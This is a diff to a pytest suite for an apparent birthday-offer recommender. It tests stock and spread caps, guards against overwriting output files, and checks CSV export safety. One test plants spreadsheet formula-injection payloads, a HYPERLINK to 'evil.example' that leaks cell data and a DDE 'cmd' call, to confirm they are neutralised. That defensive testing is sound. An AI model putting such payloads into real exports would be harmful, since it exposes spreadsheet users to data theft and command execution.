@@ -18,7 +18,7 @@ import numpy as np
 import pytest
 from hypothesis import HealthCheck, given, settings as hsettings, strategies as st
 
-from recommender import campaigns, keys, occasions, registry, store
+from recommender import campaigns, interactions, keys, occasions, registry, store
 from recommender.campaigns import CampaignRequest
 from recommender.cli import cli
 from recommender.config import load_settings
@@ -65,9 +65,9 @@ def shoppers(n=6):
     return [(f"S{i}", None, None, "UTC") for i in range(1, n + 1)]
 
 
-def run(db, settings, *, dry_run=False, out=None, model=None, **request):
+def run(db, settings, *, dry_run=False, out=None, model=None, force=False, **request):
     request.setdefault("occasion", "birthday")
-    return campaigns.run(db, settings, CampaignRequest(**request), dry_run=dry_run, out=out, model=model)
+    return campaigns.run(db, settings, CampaignRequest(**request), dry_run=dry_run, out=out, model=model, force=force)
 
 
 def window(dates, zones, **kw):
@@ -341,6 +341,7 @@ def test_never_hidden_expired_out_of_stock_or_already_bought(db, settings):
     events.append(("A", "P1", "purchase", 1.0, 1_750_000_000))
     make_shop(db, [("A", "1990-06-03", None, "UTC"), ("B", "1990-06-06", None, "UTC")] + shoppers(),
               products=products, personalization=[f"S{i}" for i in range(1, 7)], events=events)
+    settings.campaigns.max_product_share = 1.0  # filters only: no spread rule
     result = run(db, settings, date="2026-06-01", days_ahead=7)
     got = {o.customer_id: o.product_ids for o in result.offers}
     assert got == {"A": ["P4", "P5", "P6"], "B": ["P1", "P5", "P6"]}  # P4 expires before B's birthday
@@ -353,6 +354,7 @@ def test_per_product_cap_and_round_robin(db, settings):
     customers = [(f"C{i}", f"1990-06-0{i}", None, "UTC") for i in range(1, 5)]
     make_shop(db, customers + shoppers(), products=products, personalization=[f"S{i}" for i in range(1, 7)],
               events=popular_events(["P1", "P2", "P3", "P4", "P5", "P6"]))
+    settings.campaigns.max_product_share = 1.0  # stock caps only: no spread rule
     result = run(db, settings, date="2026-06-01", days_ahead=7, items=2, dry_run=True)
     assert all(len(set(o.product_ids) & {"P1", "P2"}) == 1 for o in result.offers)
     assert all(o.product_ids[1] == "P3" for o in result.offers)  # the next best once both are full
@@ -410,8 +412,11 @@ def test_personalized_offers_from_the_trained_model(served):
         assert all(not rows[p]["hidden"] and rows[p]["in_stock"] != 0
                    and (rows[p]["available_until"] or "9999") >= o.date for p in o.product_ids)
         if o.mode == "personalized":
-            # The first pick comes from the customer's own ranking (its depth is 4k + 8).
-            top, _ = model.recommend(model.user_factors[model.user_index[o.customer_id]], 4 * 3 + 8,
+            # The first pick comes from the customer's own ranking (its depth is 4k + 8), folded in from
+            # their current history as the storefront does.
+            items, conf = interactions.customer_confidences(db, served, o.customer_id, model.item_index,
+                                                            model.manifest["data"]["reference_time"])
+            top, _ = model.recommend(model.recalculate_user(items, conf), 4 * 3 + 8,
                                      exclude=np.array([model.item_index[p] for p in bought], dtype=np.int64),
                                      allow=allow)
             assert model.item_index[o.product_ids[0]] in set(top.tolist())
@@ -427,7 +432,8 @@ def test_no_customer_without_marketing_consent_ever_gets_an_offer(marketing, per
         ids = [f"C{i}" for i in range(8)]
         make_shop(db, [(c, f"1990-06-0{i + 2}", f"2001-06-0{i + 2}", "Pacific/Auckland") for i, c in enumerate(ids)],
                   marketing={c: g for c, g in zip(ids, marketing) if g is not None},
-                  personalization=[c for c, p in zip(ids, personal) if p])
+                  personalization=[c for c, p in zip(ids, personal) if p],
+                  events=[(c, f"P{i % 10 + 1}", "view", 1.0, 1_750_000_000) for i, c in enumerate(ids)])
         rng = np.random.default_rng(0)
         model = FactorModel(rng.random((8, 4), np.float32), rng.random((10, 4), np.float32), ids,
                             [f"P{i}" for i in range(1, 11)], 1.0, {"version": "test"})
@@ -533,3 +539,181 @@ def test_api_campaign_preview_needs_admin_and_writes_nothing(offers_client, serv
     assert offers_client.post("/v1/admin/campaigns/preview", json=body, headers=reader).status_code == 403
     assert offers_client.get("/v1/customers/C0001/offers", headers=reader).status_code == 200
     assert offers_client.post("/v1/admin/campaigns/preview", json=body, headers=admin).status_code == 200
+
+
+# --- stock over time, caps in the summary, the spread rule -------------------------------------------------
+
+
+def offered_units(db):
+    units: dict[str, int] = {}
+    for r in ledger(db):
+        for p in json.loads(r["products"]):
+            units[p] = units.get(p, 0) + 1
+    return units
+
+
+def test_stock_caps_hold_across_runs_on_consecutive_days(db, settings):
+    """P1 (the bestseller) has 2 units: day 1 promises both, day 2 none, after the codes expire it is free again."""
+    products = [("P1", "Scarce", "misc", 5.0, 2, 0, None)]
+    products += [(f"P{i}", f"Product {i}", "misc", 5.0, None, 0, None) for i in range(2, 7)]
+    customers = [("C1", "1990-06-01", None, "UTC"), ("C2", "1990-06-01", None, "UTC"), ("C3", "1990-06-01", None, "UTC"),
+                 ("D1", "1990-06-02", None, "UTC"), ("D2", "1990-06-02", None, "UTC"), ("E1", "1990-07-01", None, "UTC")]
+    make_shop(db, customers + shoppers(), products=products, personalization=[f"S{i}" for i in range(1, 7)],
+              events=popular_events(["P1", "P2", "P3", "P4", "P5", "P6"]))
+    settings.campaigns.max_product_share = 1.0  # stock only
+    day1 = run(db, settings, date="2026-06-01", days_ahead=0, items=1)
+    assert sorted(o.product_ids[0] for o in day1.offers) == ["P1", "P1", "P2"]
+    s1 = day1.summary()
+    assert s1["capped_choices"] == 1 and s1["capped_first_pick"] == {"2nd": 1, "3rd": 0, "later": 0}
+    assert s1["outstanding_units"] == 0
+    day2 = run(db, settings, date="2026-06-02", days_ahead=0, items=1)
+    assert sorted(o.product_ids[0] for o in day2.offers) == ["P2", "P2"]  # both P1 units are still promised
+    s2 = day2.summary()
+    assert s2["outstanding_units"] == 3 and s2["capped_choices"] == 2 and s2["capped_first_pick"]["2nd"] == 2
+    assert "capped: 2 customer(s)" in day2.human()
+    assert offered_units(db) == {"P1": 2, "P2": 3}
+    # Day-1 and day-2 codes end on 15 and 16 June: on 1 July nothing is outstanding any more.
+    later = run(db, settings, date="2026-07-01", days_ahead=0, items=1)
+    assert [o.product_ids for o in later.offers] == [["P1"]] and later.summary()["outstanding_units"] == 0
+
+
+def test_max_per_product_holds_across_runs(db, settings):
+    products = [(f"P{i}", f"Product {i}", "misc", 5.0, None, 0, None) for i in range(1, 7)]
+    customers = [("C1", "1990-06-01", None, "UTC"), ("C2", "1990-06-01", None, "UTC"), ("C3", "1990-06-01", None, "UTC"),
+                 ("D1", "1990-06-02", None, "UTC"), ("D2", "1990-06-02", None, "UTC")]
+    make_shop(db, customers + shoppers(), products=products, personalization=[f"S{i}" for i in range(1, 7)],
+              events=popular_events(["P1", "P2", "P3", "P4", "P5", "P6"]))
+    settings.campaigns.max_product_share = 1.0
+    run(db, settings, date="2026-06-01", days_ahead=0, items=1, max_per_product=2)
+    assert offered_units(db) == {"P1": 2, "P2": 1}
+    day2 = run(db, settings, date="2026-06-02", days_ahead=0, items=1, max_per_product=2)
+    # P1 is full; P2 has room for one more; the second customer of the day takes P3.
+    assert offered_units(db) == {"P1": 2, "P2": 2, "P3": 1}
+    assert day2.summary()["capped_first_pick"] == {"2nd": 1, "3rd": 1, "later": 0}
+
+
+def test_spread_rule_keeps_one_product_out_of_most_offers(db, settings):
+    products = [(f"P{i}", f"Product {i}", "misc", 5.0, None, 0, None) for i in range(1, 9)]
+    customers = [(f"C{i}", f"1990-06-0{i}", None, "UTC") for i in range(1, 9)]
+    make_shop(db, customers + shoppers(), products=products, personalization=[f"S{i}" for i in range(1, 7)],
+              events=popular_events([f"P{i}" for i in range(1, 7)]))
+    settings.campaigns.max_product_share = 1.0
+    crowded = run(db, settings, date="2026-06-01", days_ahead=7, items=2, dry_run=True)
+    assert all(o.product_ids == ["P1", "P2"] for o in crowded.offers)  # without the rule: the same two for all
+    settings.campaigns.max_product_share = 0.25  # ceil(0.25 x 8 customers) = 2 offers per product
+    spread = run(db, settings, date="2026-06-01", days_ahead=7, items=2, dry_run=True)
+    counts: dict[str, int] = {}
+    for o in spread.offers:
+        for p in o.product_ids:
+            counts[p] = counts.get(p, 0) + 1
+    assert counts == {f"P{i}": 2 for i in range(1, 9)} and spread.summary()["product_cap"] == 2
+    assert all(len(o.product_ids) == 2 for o in spread.offers)
+
+
+def test_spread_rule_gives_way_when_the_shop_has_nothing_else(db, settings):
+    products = [("P1", "One", "misc", 5.0, None, 0, None), ("P2", "Two", "misc", 5.0, None, 0, None)]
+    customers = [(f"C{i}", f"1990-06-0{i}", None, "UTC") for i in range(1, 9)]
+    make_shop(db, customers, products=products)
+    result = run(db, settings, date="2026-06-01", days_ahead=7, items=2, dry_run=True)
+    assert len(result.offers) == 8 and all(sorted(o.product_ids) == ["P1", "P2"] for o in result.offers)
+
+
+def test_bad_spread_setting_is_a_config_error(db, settings):
+    make_shop(db, [("A", "1990-06-03", None, "UTC")])
+    settings.campaigns.max_product_share = 0.0
+    with pytest.raises(ConfigError, match="max_product_share"):
+        run(db, settings, date="2026-06-01")
+
+
+# --- exports that are safe to open and hard to misuse ------------------------------------------------------
+
+
+def test_csv_cells_that_a_spreadsheet_would_evaluate_are_quoted():
+    from recommender import csvsafe
+
+    cases = {"=1+1": "'=1+1", "+41 79": "'+41 79", "-2": "'-2", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx",
+             "\rx": "'\rx", "Ann": "Ann", "": "", " =x": " =x", "a=b": "a=b"}
+    assert {k: csvsafe.cell(k) for k in cases} == cases
+    assert csvsafe.cell(-5) == -5 and csvsafe.cell(15.0) == 15.0 and csvsafe.cell(None) is None
+
+
+def test_campaign_csv_export_neutralises_formulas(db, settings, tmp_path):
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    store.upsert_customers(db, [("A", "a@example.com", evil, "1990-06-03", None, "UTC", CREATED)])
+    store.upsert_products(db, [("P1", "=cmd|' /C calc'!A0", "misc", 5.0, None, 0, None),
+                               ("P2", "@SUM(1+1)", "misc", 5.0, None, 0, None)])
+    store.set_consents(db, [("A", "marketing", True, CREATED, "test")])
+    out = tmp_path / "offers.csv"
+    run(db, settings, date="2026-06-01", days_ahead=7, items=1, out=out)
+    with open(out, newline="", encoding="utf-8") as fh:
+        row = next(csv.DictReader(fh))
+    assert row["name"] == "'" + evil
+    assert row["product_names"] in ("'=cmd|' /C calc'!A0", "'@SUM(1+1)")
+    assert row["email"] == "a@example.com" and row["preview"] == "false"
+    for value in row.values():
+        assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_out_is_never_overwritten_without_force_and_no_folder_is_made(db, settings, tmp_path):
+    make_shop(db, [("A", "1990-06-03", None, "UTC"), ("B", "1990-06-04", None, "UTC")])
+    out = tmp_path / "offers.csv"
+    out.write_text("yesterday's 30 rows\n")
+    with pytest.raises(ValidationError, match="already exists.*--force"):
+        run(db, settings, date="2026-06-01", days_ahead=7, out=out)
+    assert out.read_text() == "yesterday's 30 rows\n" and store.counts(db)["offers"] == 0
+    missing = tmp_path / "no" / "such" / "offers.csv"
+    with pytest.raises(ValidationError, match="does not exist"):
+        run(db, settings, date="2026-06-01", days_ahead=7, out=missing)
+    assert not (tmp_path / "no").exists() and store.counts(db)["offers"] == 0
+    result = run(db, settings, date="2026-06-01", days_ahead=7, out=out, force=True)
+    assert len(out.read_text().splitlines()) == 3 and len(result.offers) == 2
+    assert [(c["path"], c["kind"]) for c in store.registered_copies(db)] == [(str(out.absolute()), "campaign_export")]
+
+
+def test_a_preview_file_says_so_and_its_codes_are_not_usable(db, settings, tmp_path):
+    make_shop(db, [("A", "1990-06-03", None, "UTC"), ("B", "1990-06-04", None, "UTC")])
+    out = tmp_path / "preview.csv"
+    result = run(db, settings, date="2026-06-01", days_ahead=7, dry_run=True, out=out)
+    with open(out, newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    assert len(rows) == 2 and {r["preview"] for r in rows} == {"true"}
+    assert all(re.fullmatch(r"PREVIEW-BDAY(-[A-Z2-7]{4}){4}", r["code"]) for r in rows)
+    assert "PREVIEW" in result.human() and store.registered_copies(db) == []
+    from recommender.campaigns import ledger as campaign_ledger
+
+    with pytest.raises(ValidationError, match="preview"):
+        campaign_ledger.record(db, result, None)
+    assert store.counts(db)["offers"] == 0
+    real = run(db, settings, date="2026-06-01", days_ahead=7)
+    assert not any(o.code.startswith("PREVIEW") for o in real.offers)
+
+
+def test_cli_out_needs_force_to_replace(runner, db, settings, tmp_path):
+    make_shop(db, [("A", "1990-06-03", None, "UTC")])
+    out = tmp_path / "offers.csv"
+    out.write_text("keep me\n")
+    help_text = runner.invoke(cli, ["campaign", "run", "--help"]).output
+    assert "--force" in help_text and "preview" in help_text
+    refused = runner.invoke(cli, ["campaign", "run", "--occasion", "birthday", "--date", "2026-06-01",
+                                  "--out", str(out)])
+    assert refused.exit_code != 0 and len(refused.output.strip().splitlines()) == 1
+    assert refused.output.startswith("Error:") and "--force" in refused.output and out.read_text() == "keep me\n"
+    done = runner.invoke(cli, ["campaign", "run", "--occasion", "birthday", "--date", "2026-06-01",
+                               "--out", str(out), "--force", "--json"])
+    assert done.exit_code == 0, done.output
+    assert json.loads(done.output)["offers_total"] == 1 and len(out.read_text().splitlines()) == 2
+
+
+def test_cron_script_refuses_to_overwrite_without_force(db, settings, capsys, tmp_path):
+    import importlib.util
+
+    path = Path(__file__).parent.parent / "scripts" / "run_campaign.py"
+    spec = importlib.util.spec_from_file_location("run_campaign", path)
+    script = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(script)
+    make_shop(db, [("A", "1990-06-03", None, "UTC")])
+    out = tmp_path / "offers.csv"
+    out.write_text("keep me\n")
+    argv = ["--db", str(settings.db), "--date", "2026-06-01", "--out", str(out)]
+    assert script.main(argv) == 1 and "--force" in capsys.readouterr().out
+    assert script.main(argv + ["--force"]) == 0 and len(out.read_text().splitlines()) == 2
